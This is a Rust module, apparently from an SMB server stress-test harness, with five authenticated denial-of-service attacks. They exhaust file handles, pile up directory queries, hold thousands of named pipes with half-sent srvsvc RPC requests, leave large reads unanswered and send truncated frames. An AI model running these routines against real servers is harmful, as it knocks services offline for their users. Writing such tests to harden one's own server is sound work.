//! Attacks of a user who has logged on.

use std::future::{Future, poll_fn};
use std::pin::pin;
use std::task::Poll;
use std::time::Duration;

use netsession::Syntax;
use netsession::smb_client::{Create, Error as SmbError, Open};
use rpc::association::client::{Association, Event, Limits};
use smb::wire::{
    Command, QueryDirectoryRequest, Utf16, file_information_class, query_directory_flags, utf16,
};
use srvsvc::opnum;

use super::attack::{Attacker, Got};
use crate::{Error, Result};

/// Of one fragmented request: as much as the service takes.
const STUB: usize = 128 << 10;
/// One READ, and the file that it reads.
const ANSWER: u32 = 8 << 20;
/// The longest frame that a client may send after its logon: 8 MiB and what surrounds them.
const FRAME: usize = (8 << 20) + 65_536;
/// And before it.
const FRAME_BEFORE_LOGON: usize = 2 * 65_536;
/// A frame that the server does not take for so long is given up.
const SLOW: Duration = Duration::from_secs(5);
/// How often a full attacker tries again.
pub(super) const GREED: Duration = Duration::from_millis(2);
/// Pipes on one session.
const PIPES: u32 = 16_000;

/// Keeps the connection if it still stands.
fn answered<T>(got: &mut Got, result: std::result::Result<T, SmbError>) -> Result<Option<T>> {
    match result {
        Ok(value) => {
            got.one();
            Ok(Some(value))
        }
        Err(error @ SmbError::Status { .. }) => {
            got.refused(error);
            Ok(None)
        }
        Err(error) => Err(error.into()),
    }
}

/// (1) Opens of one file.
pub(super) async fn handles(attacker: &Attacker, got: &mut Got) -> Result<()> {
    let (session, _) = attacker.session().await?;
    got.keep(session.clone());
    let tree = attacker.tree(&session, None).await?;
    let open = Create::open();
    while attacker.wants_more(got) {
        let opened = tree.create("readable", &open).await;
        answered(got, opened)?;
    }
    // Takes what becomes free until the siege is over.
    tokio::spawn(async move {
        while !matches!(tree.create("readable", &open).await, Err(SmbError::Closed)) {
            tokio::time::sleep(GREED).await;
        }
    });
    Ok(())
}

/// (2) Opens of a large directory, each with a QUERY_DIRECTORY begun.
pub(super) async fn listings(attacker: &Attacker, got: &mut Got) -> Result<()> {
    const BUFFER: u32 = 4_096;
    let (session, _) = attacker.session().await?;
    got.keep(session.clone());
    let tree = attacker.tree(&session, None).await?;
    let pattern = utf16("*");
    while attacker.wants_more(got) {
        let directory = match tree.create("many", &Create::open()).await {
            Ok(directory) => directory,
            Err(error) => {
                answered::<()>(got, Err(error))?;
                continue;
            }
        };
        let request = QueryDirectoryRequest {
            file_information_class: file_information_class::FILE_ID_BOTH_DIRECTORY_INFORMATION,
            file_id: directory.file_id(),
            file_name: Utf16::new(&pattern).map_err(SmbError::from)?,
            output_buffer_length: BUFFER,
            flags: query_directory_flags::SMB2_RESTART_SCANS,
            file_index: 0,
        };
        let listed = tree
            .request(Command::QUERY_DIRECTORY, BUFFER as usize, |out| {
                request.write(out)
            })
            .await
            .and_then(|response| response.success());
        answered(got, listed)?;
    }
    Ok(())
}

/// (3) Pipes with all but the end of a request.
pub(super) async fn pipes(attacker: &Attacker, got: &mut Got) -> Result<()> {
    let mut on_session = PIPES;
    let mut tree = None;
    while attacker.wants_more(got) {
        if on_session >= PIPES {
            let (session, _) = attacker.session().await?;
            got.keep(session.clone());
            tree = Some(attacker.tree(&session, Some("IPC$")).await?);
            on_session = 0;
        }
        on_session += 1;
        let Some(tree) = &tree else { continue };
        let half = async {
            let pipe = tree.create("srvsvc", &Create::pipe()).await?;
            half_request(&pipe).await
        };
        match half.await {
            Ok(()) => got.one(),
            Err(Error::Smb(error)) => {
                answered::<()>(got, Err(error))?;
            }
            Err(error) => return Err(error),
        }
    }
    Ok(())
}

async fn half_request(pipe: &Open) -> Result<()> {
    let broken = |error: rpc::association::client::Error| Error::Unexpected(error.to_string());
    let mut association = Association::new(srvsvc::INTERFACE, Limits::default());
    pipe.write(0, &association.bind(&[Syntax::Ndr20])).await?;
    loop {
        let bytes = pipe.read(0, 4_280).await?;
        match association.handle(&bytes).map_err(broken)? {
            Some(Event::Bound(_)) => break,
            Some(other) => return Err(Error::Unexpected(format!("{other:?} to a bind"))),
            None => {}
        }
    }
    let fragments = association
        .request(opnum::NETR_SESSION_ENUM, vec![0; STUB])
        .map_err(broken)?;
    for fragment in &fragments[..fragments.len() - 1] {
        pipe.write(0, fragment).await?;
    }
    // A server that has refused something says so in its next answer, not to the write.
    Ok(())
}

/// (4) Answers that nobody reads: one on each connection, which works in order.
pub(super) async fn answers(attacker: &Attacker, got: &mut Got) -> Result<()> {
    while attacker.wants_more(got) {
        let asked = async {
            let (session, stream) = attacker.session().await?;
            let tree = attacker.tree(&session, None).await?;
            let file = tree.create("large", &Create::open()).await?;
            // One credit covers 64 KiB.
            while session.connection().credits().await < ANSWER / 65_536 {
                session.echo().await?;
            }
            {
                let mut read = pin!(file.read(0, ANSWER));
                // Sends the request; its answer is never waited for.
                let polled = poll_fn(|cx| Poll::Ready(read.as_mut().poll(cx))).await;
                if let Poll::Ready(Err(error)) = polled {
                    return Err(Error::from(error));
                }
            }
            Ok((session, stream))
        };
        match asked.await {
            Ok(kept) => {
                got.one();
                got.keep(kept);
            }
            Err(error) => got.refused(error),
        }
    }
    Ok(())
}

/// (5) Frames one byte short: three of four after a logon.
pub(super) async fn frames(attacker: &Attacker, got: &mut Got) -> Result<()> {
    let bytes = vec![0; FRAME - 1];
    let mut number = 0;
    while attacker.wants_more(got) {
        number += 1;
        let sent = async {
            let (stream, length) = if number % 4 == 0 {
                let (connection, stream) = attacker.connection().await?;
                drop(connection);
                (stream, FRAME_BEFORE_LOGON)
            } else {
                (attacker.session().await?.1, FRAME)
            };
            // The length prefix has a type of 0 and 24 bits.
            let prefix = (length as u32).to_be_bytes();
            let writing = async {
                stream.write_all(&prefix).await?;
                stream.write_all(&bytes[..length - 1]).await
            };
            match tokio::time::timeout(SLOW, writing).await {
                Ok(written) => written?,
                Err(_) => return Err(Error::Smb(SmbError::TimedOut)),
            }
            Ok(stream)
        };
        match sent.await {
            Ok(stream) => {
                got.one();
                got.keep(stream);
            }
            Err(error) => got.refused(error),
        }
    }
    Ok(())
}
